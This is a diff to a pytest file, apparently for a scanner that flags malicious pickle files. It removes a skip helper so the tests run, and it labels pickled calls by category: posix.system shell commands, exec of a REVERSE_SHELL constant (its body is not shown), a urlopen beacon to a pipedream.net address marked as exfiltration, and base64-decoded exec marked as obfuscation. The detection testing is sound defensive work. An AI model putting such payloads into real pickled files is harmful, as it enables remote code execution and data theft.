@@ -19,16 +19,6 @@ REVERSE_SHELL = (
 )
 
 
-def _needs(kind: str) -> None:
-    """Skip until the script analysis provides the assessment (engineer C's part)."""
-    from malhug.analyzers.scripts.embedded import assess_python, assess_shell
-
-    try:
-        (assess_shell if kind == "shell" else assess_python)("id")
-    except ImportError as exc:
-        pytest.skip(f"embedded-code assessment not available yet: {exc}")
-
-
 def _category(expr: Call, protocol: int = 2) -> tuple[str, Category, Severity]:
     report = scan(pickle_of([expr], protocol=protocol))
     top = [f for f in report.findings if f.severity >= Severity.HIGH]
@@ -47,23 +37,19 @@ def _category(expr: Call, protocol: int = 2) -> tuple[str, Category, Severity]:
     ],
 )
 def test_shell_payload_decides_the_category(command: str, category: Category) -> None:
-    _needs("shell")
     assert _category(call("posix.system", command)) == ("MH101", category, Severity.CRITICAL)
 
 
 def test_reverse_shell_through_exec() -> None:
-    _needs("python")
     assert _category(call("builtins.exec", REVERSE_SHELL)) == ("MH101", Category.REVERSE_SHELL, Severity.CRITICAL)
 
 
 def test_beacon_through_urlopen_is_exfiltration() -> None:
-    _needs("python")
     rule, category, _ = _category(call("urllib.request.urlopen", "https://eo0000.m.pipedream.net"), protocol=4)
     assert (rule, category) == ("MH101", Category.EXFILTRATION)
 
 
 def test_decoded_opaque_payload_is_obfuscation() -> None:
-    _needs("python")
     code = base64.b64encode(b"x = 1 + 1").decode()
     assert _category(call("builtins.exec", call("base64.b64decode", code))) == (
         "MH105",
@@ -92,5 +78,4 @@ def test_callable_category_without_a_constant_payload() -> None:
     ],
 )
 def test_library_calls_with_constant_arguments(expr: Call, category: Category) -> None:
-    _needs("python")
     assert _category(expr, protocol=4) == ("MH101", category, Severity.CRITICAL)
